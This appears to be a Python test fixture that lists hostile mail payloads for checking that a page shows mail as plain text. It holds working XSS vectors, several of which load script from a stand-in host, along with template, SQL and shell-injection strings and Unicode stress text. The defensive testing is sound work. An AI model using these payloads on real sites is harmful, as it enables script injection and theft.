"""Payloads of hostile mails: they run, leave the page or break the layout unless they are shown as plain text."""

from itertools import chain

HOST = "ran.example"  # a request to this host means that a payload ran
_RUN = "document.documentElement.setAttribute('data-ran', 1)"
_URL = f"https://{HOST}/"

_SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_URL}a.js></SCRIPT>",
    f"<script type=module>import '{_URL}b.js'</script>",
    f"</p></div><script>{_RUN}//",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x0c>{_RUN}</script\x0c>",
    f"<script/x>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</template></rutinlots-overlay><script>{_RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<xmp><script>{_RUN}</script></xmp>",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"＜script＞{_RUN}＜/script＞",
]
_HANDLERS = [
    f'<img src=x onerror="{_RUN}">',
    f'<img/src=x/onerror="{_RUN}">',
    f'"><img src=x onerror="{_RUN}">',
    f'\'><img src=x onerror="{_RUN}">',
    f'<img src="{_URL}c.png">',
    f'<img srcset="{_URL}d.png 1x">',
    f'<body onload="{_RUN}">',
    f'<input autofocus onfocus="{_RUN}">',
    f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    f'<video src=x onerror="{_RUN}"></video>',
    f'<audio src="{_URL}e.mp3" autoplay oncanplay="{_RUN}"></audio>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<marquee onstart="{_RUN}">x</marquee>',
    f'<div onpointerenter="{_RUN}" onmouseover="{_RUN}" style="position:fixed;inset:0">x</div>',
    f'<a href=# onclick="{_RUN}" style="position:fixed;inset:0;z-index:2147483647">klicka</a>',
    f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{_RUN}">x</b>',
    f'<b style="transition:1s" ontransitionend="{_RUN}">x</b>',
    f'<select autofocus onfocus="{_RUN}"><option>x</select>',
    f'<button popovertarget=x onclick="{_RUN}">x</button><b popover id=x onbeforetoggle="{_RUN}">x</b>',
    f'<form action="{_URL}f" onsubmit="{_RUN}"><button>Skicka</button></form>',
    f'<isindex type=image src=1 onerror="{_RUN}">',
    f'x" onfocus="{_RUN}" autofocus tabindex="0',
    f"x' onmouseover='{_RUN}' y='",
    f"x onpointerover={_RUN} y=",
]
_FOREIGN = [
    f'<svg onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={_RUN}>#x"/></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>top.{_RUN}</script>"></iframe></foreignObject></svg>',
    f'<svg><image href="{_URL}g.png"/></svg>',
    f'<svg><style><img src=x onerror="{_RUN}"></style></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    f'<math href="javascript:{_RUN}">klicka</math>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
    f'<iframe src="javascript:parent.{_RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="{_URL}h"></iframe>',
    f'<object data="{_URL}i"></object>',
    f'<embed src="{_URL}j">',
    f'<object data="data:text/html,<script>parent.{_RUN}</script>"></object>',
    f'<link rel=stylesheet href="{_URL}k.css">',
    f'<link rel=preload as=image href="{_URL}l.png">',
    f'<base href="{_URL}">',
    f'<meta http-equiv=refresh content="0;url={_URL}m">',
    f'<portal src="{_URL}n"></portal>',
    f'<fencedframe src="{_URL}o"></fencedframe>',
    "<slot name=x></slot><rutinlots-overlay></rutinlots-overlay>",
]
_LINKS = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript://example.com/%0a{_RUN}",
    f"data:text/html,<script>opener.{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"blob:{_URL}p",
    f"//{HOST}/q",
    "chrome-extension://onmbglcplgdnhelgepkedbffhcjcknmi/pages/options.html",
    "file:///etc/hosts",
    f'<a href="javascript:{_RUN}">Läs i handboken</a>',
    f"[Läs i handboken](javascript:{_RUN})",
]
_TEMPLATES = [
    "{{constructor.constructor('" + _RUN.replace("'", '"') + "')()}}",
    "${" + _RUN + "}",
    "`${" + _RUN + "}`",
    "{{7*7}}",
    "{0}{name}{situation.__class__}",
    "%s%n%(name)s",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "{% include 'x' %}",
    "[[kundnummer]] {kundnummer} <namn>",
    '{"__proto__": {"ran": 1}}',
    "__proto__",
    "constructor",
    "toString",
    "'; DROP TABLE events; --",
    "$(id) `id` | id",
]
_STYLES = [
    "</style><style>*{display:none!important}",
    "<style>:host,rutinlots-overlay,.panel{display:none!important}</style>",
    f"<style>@import '{_URL}r.css';</style>",
    f'<b style="background:url({_URL}s.png)">x</b>',
    '<div style="position:fixed;inset:0;background:red;z-index:2147483647">Allt är klart</div>',
    "x;} .dialog{visibility:hidden} .x{",
    "expression(alert(1)) url(javascript:alert(1))",
    '<b class="scrim dialog panel" id="dialog">x</b>',
    "var(--x) calc(1px/0) !important",
    "\\2028 \\0 \\9 content:'x'",
]
_SIGNS = [
    "\u202etxet dnäv\u202c",  # right to left override
    "\u202e" * 40 + "aldrig avslutad",
    "\u2066\u2067\u2068 isolerade utan slut",
    "\u061c\u200f\u200e märken för riktning",
    "שלום עולם مرحبا بالعالم Hej",
    "noll\u200bbredd\u200d\u200c\ufeff\u2060i\u00adord",
    "\u200b" * 400,
    "\ufe0f\u20e3" * 60,
    "Zalgo" + "".join(chr(0x300 + number % 0x70) for number in range(300)),
    "".join("a" + chr(0x300 + number % 0x70) * 30 for number in range(20)),
    "\u0488\u0489" * 80,
    "ﷺ" * 60,
    "𒐫" * 60 + "⸻" * 40 + "꧅" * 20,
    "👩‍👩‍👧‍👦" * 40,
    "🏴" + "".join(chr(0xE0020 + number) for number in range(90)),
    "\u3164\uffa0\u115f\u1160 ser ut som mellanslag",
    "\x00\x01\x02\x1b[31m\x7f\x85 styrtecken",
    "\ud7ff\ue000\ufffd\uffff inga tecken",
    "\u2028\u2029\x0b\x0c rader utan radbyte",
    "ｆｕｌｌｂｒｅｄｄ ａｌｌａ ｔｅｃｋｅｎ " * 8,
    "А\u0430 kyrilliska som ser latinska ut",
    "ǆ ﬃ ß İ ı ſ K",
]
_LENGTHS = [
    "O" * 4000,
    "långt" * 300 + "@" + "ord" * 300 + ".example",
    "https://" + "a" * 1200 + ".example/" + "b" * 1200,
    "MMMMMMMMMM/" * 200,
    "rad\n" * 400,
    "\t" * 200 + "indraget",
    "<" * 1500,
    "&" * 1500,
    "<b>" * 500,
    "((((((((((" * 100,
    "-" * 2000,
    "\u00a0" * 1500 + "bort",
    "1" * 1000,
]
_NOTHINGS = ["null", "undefined", "NaN", "[object Object]", "true", "0", "-1", "None", " ", "…", "\\", '"', "'", "<", ">"]

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_FOREIGN, *_LINKS, *_TEMPLATES, *_STYLES, *_SIGNS, *_LENGTHS, *_NOTHINGS]
INERT = [*_SIGNS, *_LENGTHS, *_NOTHINGS]  # nothing in them could run: they can only be laid out badly
_ALONE = {*_LINKS, *_LENGTHS}  # a link counts only where a text begins with it


def groups(size: int, together: int, length: int) -> list[list[list[str]]]:
    """The payloads in groups, one a page: at most ``size`` texts or about ``length`` characters, the page's time to lay them out.

    Each text is a list of at most ``together`` payloads to join. Were it taken for HTML, its first payload would run
    whatever comes after it.
    """
    texts: list[list[str]] = []
    for payload in PAYLOADS:
        if payload in _ALONE or not texts or len(texts[-1]) == together or texts[-1][0] in _ALONE:
            texts.append([])
        texts[-1].append(payload)
    made: list[list[list[str]]] = [[]]
    for text in texts:
        if len(made[-1]) == size or sum(map(len, chain.from_iterable(made[-1]))) >= length:
            made.append([])
        made[-1].append(text)
    return made
